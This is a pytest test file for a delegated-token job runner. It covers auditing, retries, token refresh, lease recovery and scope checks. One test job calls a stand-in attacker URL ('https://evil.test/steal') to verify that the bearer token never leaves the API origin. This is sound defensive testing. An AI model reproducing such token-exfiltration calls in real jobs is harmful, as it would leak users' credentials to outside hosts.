"""The runner on SQLite + fakeredis + an in-memory AS and API."""

import datetime as dt
import uuid

import fakeredis
import httpx
import pytest
from sqlalchemy import select

from delegation.kms import LocalKeyFile
from delegation.runs import queue_run
from delegation.vault import Vault
from models import AuditEvent, JobRun, OutboxMessage
from tests.support.fake_as import API_BASE, FakeAuthServer
from tests.support.world import World
from worker.http import ForeignOriginError, path_template
from worker.jobs import JobSpec


@pytest.fixture
def fake_as():
    return FakeAuthServer(ttl=300)


@pytest.fixture
def world(sqlite_sessions, clock, tmp_path, fake_as):
    w = World(sessions=sqlite_sessions, vault=Vault(LocalKeyFile(tmp_path / "k", warn=False)),
              clock=clock, redis=fakeredis.FakeRedis(), transport=fake_as.transport())
    w.setup_agent(fake_as.metadata(), API_BASE)
    return w


def add_job(world, name, function, scopes=("reports:read",)):
    world.jobs.add(JobSpec(name=name, agent="reporter", scopes=frozenset(scopes),
                           function=function))


def connected_run(world, fake_as, job, subject="alice", ttl=300):
    access, refresh = fake_as.grant(subject, world.client_id)
    user_id, d_id = world.add_delegation(subject, world.token_set(access, refresh, ttl))
    with world.sessions.begin() as s:
        run = queue_run(s, job=job, user_id=user_id, agent_id=world.agent_id,
                        now=world.clock.now())
    return run.id, d_id


def run_row(world, run_id):
    with world.sessions() as s:
        return s.get(JobRun, run_id)


def test_a_job_runs_as_the_user_and_every_call_is_audited(world, fake_as):
    seen = []
    add_job(world, "nightly", lambda ctx: seen.append(ctx.http.get("/v2/reports/42").json()))
    run_id, _ = connected_run(world, fake_as, "nightly")

    assert world.runner().run(run_id) == "succeeded"

    assert seen == [{"path": "/v2/reports/42", "sub": "alice"}]
    assert [c["sub"] for c in fake_as.api_calls] == ["alice"]
    with world.sessions() as s:
        events = s.scalars(select(AuditEvent).where(AuditEvent.action.like("api:call%"))
                           .order_by(AuditEvent.id)).all()
    assert [e.action for e in events] == ["api:call:attempted", "api:call"]
    done = events[1]
    assert (done.user_subject, done.client_id, done.agent_name) == ("alice", world.client_id,
                                                                     "reporter")
    assert done.detail["method"] == "GET" and done.detail["path"] == "/v2/reports/{id}"
    assert done.detail["status"] == 200 and done.run_id == run_id
    assert run_row(world, run_id).attempts == 1


def test_a_duplicate_delivery_runs_the_job_body_once(world, fake_as):
    calls = []
    add_job(world, "nightly", lambda ctx: calls.append(1))
    run_id, _ = connected_run(world, fake_as, "nightly")
    runner = world.runner()
    assert runner.run(run_id) == "succeeded"
    assert runner.run(run_id) is None
    assert world.runner("another-worker").run(run_id) is None
    assert calls == [1]


def test_a_run_taken_over_while_the_worker_prepared_it_does_not_run_here(world, fake_as):
    # Opening the agent's credentials waited (KMS retrying) past the lease; meanwhile the run
    # was recovered and another worker claimed it.
    calls = []
    add_job(world, "nightly", lambda ctx: calls.append(1))
    run_id, _ = connected_run(world, fake_as, "nightly")
    runner = world.runner()
    opened = runner._agents.get

    def slow_open(agent_id):
        with world.sessions.begin() as s:
            s.get(JobRun, run_id).lease_owner = "another-worker"
        return opened(agent_id)

    runner._agents.get = slow_open
    assert runner.run(run_id) == "running"  # the other worker's, untouched
    assert calls == []
    assert run_row(world, run_id).lease_owner == "another-worker"


def test_a_missing_scope_parks_the_run_before_any_call(world, fake_as):
    add_job(world, "writer", lambda ctx: ctx.http.post("/v2/reports"), scopes={"reports:write"})
    run_id, _ = connected_run(world, fake_as, "writer")
    assert world.runner().run(run_id) == "parked"
    row = run_row(world, run_id)
    assert row.reason == "missing_scope" and "reports:write" in row.detail
    assert fake_as.api_calls == [] and fake_as.token_requests == 0


def test_the_bearer_token_never_goes_to_another_origin(world, fake_as):
    def leak(ctx):
        ctx.http.get("https://evil.test/steal")

    add_job(world, "leaky", leak)
    run_id, _ = connected_run(world, fake_as, "leaky")
    assert world.runner().run(run_id) == "failed"
    assert fake_as.calls_to_other_hosts == []
    assert "ForeignOriginError" in run_row(world, run_id).reason
    for port_trick in ("https://api.test:8443/x", "http://api.test/x"):
        with pytest.raises(ForeignOriginError):
            from worker.http import DelegatedBearerAuth

            auth = DelegatedBearerAuth(world.token_source(), uuid.uuid4(), api_base=API_BASE,
                                       cancel=__import__("worker.cancel").cancel.CancelToken(),
                                       record=lambda c: None)
            next(auth.sync_auth_flow(httpx.Request("GET", port_trick)))


def test_a_401_refreshes_once_and_resends(world, fake_as):
    add_job(world, "nightly", lambda ctx: ctx.http.get("/v2/reports").raise_for_status())
    run_id, _ = connected_run(world, fake_as, "nightly")
    fake_as.expire_access_tokens()  # the API no longer knows the stored access token
    assert world.runner().run(run_id) == "succeeded"
    assert [c["status"] for c in fake_as.api_calls] == [401, 200]
    assert fake_as.token_requests == 1


def test_a_job_longer_than_the_token_lifetime_keeps_working(world, fake_as, clock):
    def long_job(ctx):
        for _ in range(6):
            ctx.http.get("/v2/reports").raise_for_status()
            clock.advance(30)  # 6 x 30 s against a 60 s token

    add_job(world, "long", long_job)
    run_id, _ = connected_run(world, fake_as, "long", ttl=60)
    fake_as.ttl = 60
    assert world.runner().run(run_id) == "succeeded"
    assert all(c["status"] == 200 for c in fake_as.api_calls)
    assert fake_as.token_requests >= 2


def test_provider_unavailable_requeues_with_backoff_and_an_outbox_entry(world, fake_as, clock):
    add_job(world, "nightly", lambda ctx: ctx.http.get("/v2/reports"))
    run_id, _ = connected_run(world, fake_as, "nightly", ttl=30)
    clock.advance(25)  # the token now needs a refresh
    fake_as.faults.append(httpx.Response(503, headers={"Retry-After": "20"}))
    assert world.runner().run(run_id) == "queued"
    row = run_row(world, run_id)
    assert row.reason == "provider_unavailable"
    assert row.not_before >= clock.now() + dt.timedelta(seconds=20)
    with world.sessions() as s:
        pending = s.scalars(select(OutboxMessage).where(OutboxMessage.sent_at.is_(None))).all()
    assert [m.payload["run_id"] for m in pending][-1] == str(run_id)
    assert world.runner().run(run_id) is None  # not due yet
    clock.advance(row.not_before.timestamp() - clock.now().timestamp() + 1)
    assert world.runner().run(run_id) == "succeeded"


def test_invalid_grant_mid_run_parks_the_run(world, fake_as, clock):
    add_job(world, "nightly", lambda ctx: ctx.http.get("/v2/reports"))
    run_id, _ = connected_run(world, fake_as, "nightly", ttl=30)
    clock.advance(25)
    fake_as.kill("alice")
    assert world.runner().run(run_id) == "parked"
    assert run_row(world, run_id).reason == "delegation_broken"
    assert fake_as.api_calls == []


def test_a_job_error_fails_the_run_with_its_type(world, fake_as):
    def broken(ctx):
        raise KeyError("missing field")

    add_job(world, "nightly", broken)
    run_id, _ = connected_run(world, fake_as, "nightly")
    assert world.runner().run(run_id) == "failed"
    row = run_row(world, run_id)
    assert row.reason == "job_error" and row.detail.startswith("KeyError")


def test_an_unknown_job_fails_clearly(world, fake_as):
    run_id, _ = connected_run(world, fake_as, "nobody-registered-me")
    assert world.runner().run(run_id) == "failed"
    assert run_row(world, run_id).reason == "unknown_job"


def test_a_lost_worker_lease_is_reclaimed_and_k_losses_end_failed(world, fake_as, clock):
    add_job(world, "nightly", lambda ctx: None)
    run_id, _ = connected_run(world, fake_as, "nightly")
    # Given the run claimed by a worker that then died (lease never extended)
    with world.sessions.begin() as s:
        row = s.get(JobRun, run_id)
        row.status, row.lease_owner, row.attempts = "running", "dead-worker", 1
        row.lease_expires_at = clock.now() + dt.timedelta(seconds=60)
    assert world.runner().run(run_id) is None  # lease still valid: not stolen
    clock.advance(61)
    assert world.runner().run(run_id) == "succeeded"
    # And a run whose worker died on every attempt ends failed instead of looping
    run2, _ = connected_run(world, fake_as, "nightly", subject="bob")
    with world.sessions.begin() as s:
        row = s.get(JobRun, run2)
        row.status, row.lease_owner, row.attempts = "running", "dead", row.max_attempts
        row.lease_expires_at = clock.now() - dt.timedelta(seconds=1)
    assert world.runner().run(run2) is None
    assert (run_row(world, run2).status, run_row(world, run2).reason) == (
        "failed", "attempts_exhausted")


@pytest.mark.parametrize(
    ("path", "template"),
    [
        ("/v2/reports/42", "/v2/reports/{id}"),
        ("/v2/users/3f2b1c9e-1111-2222-3333-444455556666/files", "/v2/users/{id}/files"),
        ("/v2/reports", "/v2/reports"),
        ("/v2/tokens/eyJhbGciOiJSUzI1NiJ9abcdefghijk", "/v2/tokens/{id}"),
    ],
)
def test_paths_are_recorded_as_templates(path, template):
    assert path_template(path) == template
